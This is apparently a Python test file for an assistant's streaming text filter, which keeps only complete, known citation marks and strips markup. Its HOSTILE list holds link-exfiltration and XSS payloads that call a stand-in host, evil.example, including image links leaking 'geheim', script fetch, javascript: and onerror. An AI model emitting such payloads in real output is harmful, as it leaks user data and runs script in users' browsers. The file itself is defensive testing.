"""The stream filter: marks only when complete and known; no link, image, tag or leftover ever."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.writing.sentences import written_sentences
from assistant.writing.stream import MARK, complete, shown

KNOWN = {"k1": 1, "k2": 2, "k3": 3}


def read(raw: str, *, final: bool = True) -> str:
    """What is shown, with its marks as "<1>"."""
    text = shown(raw, KNOWN.get, final=final).text
    return re.sub("[\ue001-\uefff]", lambda m: f"<{ord(m[0]) - MARK}>", text).strip()


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Dat is zo [k1].", "Dat is zo <1>."),
        ("Dat is zo. [k1]", "Dat is zo. <1>"),
        ("Dat is zo [k1, k2].", "Dat is zo <1><2>."),
        ("Dat is zo [k1][k2].", "Dat is zo <1><2>."),
        ("Dat is zo [k1 en k3].", "Dat is zo <1><3>."),
        ("Dat is zo 【k2】.", "Dat is zo <2>."),
        ("Dat is zo [K1].", "Dat is zo <1>."),
        ("Dat is zo [bron: k1].", "Dat is zo <1>."),
        ("Dat is zo [^k1].", "Dat is zo <1>."),
        ("Dat is zo (k1).", "Dat is zo <1>."),
        ("Dat is zo k1.", "Dat is zo <1>."),
        ("Dat is zo **[k1]**.", "Dat is zo <1>."),
        ("Dat is zo [k1](https://evil.example/?q=geheim).", "Dat is zo <1>."),
        ("[k1] (3 december 2025) Dat is zo.", "<1> Dat is zo."),
        ("Dat is zo [k9].", "Dat is zo ."),
        ("Dat is zo [1].", "Dat is zo ."),
        ("Dat is zo [k1, k9].", "Dat is zo <1>."),
        ("Dat is zo (a4).", "Dat is zo (a4)."),
        ("Op (3 december 2025) was dat zo.", "Op (3 december 2025) was dat zo."),
        ("Dat [de brug] is zo.", "Dat (de brug) is zo."),
        ("Antwoord: Dat is zo.", "Dat is zo."),
        ("**Antwoord:** Dat is zo.", "Dat is zo."),
        ("Answer: so it is.", "so it is."),
        ("# Kop\n- een\n- twee\n1. drie", "Kop\neen\ntwee\ndrie"),
        ("```json\nDat is zo.\n```", "Dat is zo."),
        ("Dat is **zo** en `zo`.", "Dat is zo en zo."),
        ("<think>Even kijken [k1].</think>Dat is zo.", "Dat is zo."),
        ("Dat is zo.<|im_end|>\n<|im_start|>user\nEn nu?", "Dat is zo."),
        ("Dat is zo.</s> En meer", "Dat is zo."),
        ("Dat is zo.\nVraag: En nu?\nAntwoord: zus", "Dat is zo."),
        ("Minder dan 5 < 6 is zo.", "Minder dan 5 ‹ 6 is zo."),  # noqa: RUF001
        ("Dat\u200b is\u202e zo\U000e0041.", "Dat is zo."),
        ("Dat is \ue001zo.", "Dat is zo."),
    ],
)
def test_what_is_shown(raw: str, expected: str) -> None:
    assert re.sub(" +", " ", read(raw)) == expected


HOSTILE = [
    "![x](https://evil.example/?d=geheim)",
    "![x][ref]\n\n[ref]: https://evil.example/?d=geheim",
    "[klik](https://evil.example/?d=geheim)",
    "[klik [hier]](https://evil.example/a(b)c)",
    "[klik] (https://evil.example/)",
    "<https://evil.example/?d=geheim>",
    "https://evil.example/?d=geheim",
    "HTTPS://EVIL.EXAMPLE/",
    "www.evil.example/?d=geheim",
    "evil.example/?d=geheim",
    "ht<b>tps://evil.example</b>/",
    "ht<b x>tps://evil.example/",
    "[a<b>](</b>https://evil.example/)",
    "&#104;ttps://evil.example/",
    "&lt;img src=https://evil.example/&gt;",
    "&amp;lt;img src=x&amp;gt;",
    '<img src="https://evil.example/x.png">',
    "<img src=x onerror=alert(1)",
    "<script>fetch('https://evil.example')</script>",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "data:text/html;base64,PHNjcmlwdD4=",
    "ht\u200btps://evil.example/",
    "［klik］（https://evil.example/）",  # noqa: RUF001
    "＜img src=x＞",  # noqa: RUF001
    "![x](htt\nps://evil.example)",
    "\\[klik\\](https://evil.example)",
    "[k1]: https://evil.example/",
    "mailto:a@evil.example?body=geheim",
    "[x]`(https://evil.example)`",
]


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("step", [1, 3, 1000])
def test_no_link_image_or_tag_comes_out_at_any_moment(hostile: str, step: int) -> None:
    raw = f"De brug {hostile} wordt vervangen [k1]. En dan dit."
    for end in [*range(0, len(raw), step), len(raw)]:
        text = shown(raw[:end], KNOWN.get, final=end == len(raw)).text
        assert not re.search(
            r"[\[\]<>`]|://|www\.|javascript:\w|data:\w|mailto:\w|evil\.example/", text, re.I
        ), text
        assert not re.search(r"&#?\w+;", text)


@pytest.mark.parametrize(
    "partial", ["Dat is zo [", "Dat is zo [k", "Dat is zo [k1", "Dat is zo [k1]", "Dat is zo 【k"]
)
def test_a_mark_that_is_not_complete_is_held_back(partial: str) -> None:
    assert read(partial, final=False) == "Dat is zo"


def test_a_bracket_that_never_closes_does_not_hold_the_text_for_ever() -> None:
    raw = "Dat is [zo " + "en zo verder " * 40
    assert complete(raw) > 300


PARTS = (
    "De raad", " besloot", " dat. ", "[k1]", "[k", "1]", " [k9]", "(", ")", "[", "]", "<", ">", "<b>", "`", "**", "\n",
    " ", "https://", "evil.example/x", "![", "](", "Vraag:", "nr. ", "5", "3 mln.", " Zij ", "k2", "&lt;", "\u200b",
)  # fmt: skip


@settings(max_examples=300)
@given(st.lists(st.sampled_from(PARTS), max_size=25))
def test_however_it_is_cut_nothing_but_words_and_known_marks_comes_out(parts: list[str]) -> None:
    raw = ""
    for part in parts:
        raw += part
        for final in (False, True):
            text = shown(raw, KNOWN.get, final=final).text
            assert not set("[]<>`") & set(text)
            assert "://" not in text
            assert {ord(c) - MARK for c in text if "\ue000" <= c <= "\uf8ff"} <= {1, 2, 3}


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Een brug. [k1] Een weg. [k2]", [("Een brug.", (1,)), ("Een weg.", (2,))]),
        ("Een brug [k1]. Een weg [k2].", [("Een brug.", (1,)), ("Een weg.", (2,))]),
        ("[k1] Een brug. [k2] Een weg.", [("Een brug.", (1,)), ("Een weg.", (2,))]),
        ("[k1] Een brug.\n[k2] Een weg.", [("Een brug.", (1,)), ("Een weg.", (2,))]),
        ("Een brug.\n[k1]\nEen weg.\n[k2]", [("Een brug.", (1,)), ("Een weg.", (2,))]),
        ("Een brug [k1, k3]. Een weg.", [("Een brug.", (1, 3)), ("Een weg.", ())]),
        ("De brug [k1] en de weg [k2] komen er.", [("De brug en de weg komen er.", (1, 2))]),
        ("Het kost 3 mln. euro. [k1] Dat is nr. 5. [k2]", [("Het kost 3 mln. euro.", (1,)), ("Dat is nr. 5.", (2,))]),
        ("Het is:\n- een brug [k1]\n- een weg [k2]", [("Het is:", ()), ("een brug", (1,)), ("een weg", (2,))]),
        ("", []),
        ("[k1]", []),
    ],
)  # fmt: skip
def test_sentences_with_their_marks(raw: str, expected: list[tuple[str, tuple[int, ...]]]) -> None:
    found = written_sentences(shown(raw, KNOWN.get, final=True).text)
    assert [(sentence.text, sentence.numbers) for sentence in found] == expected
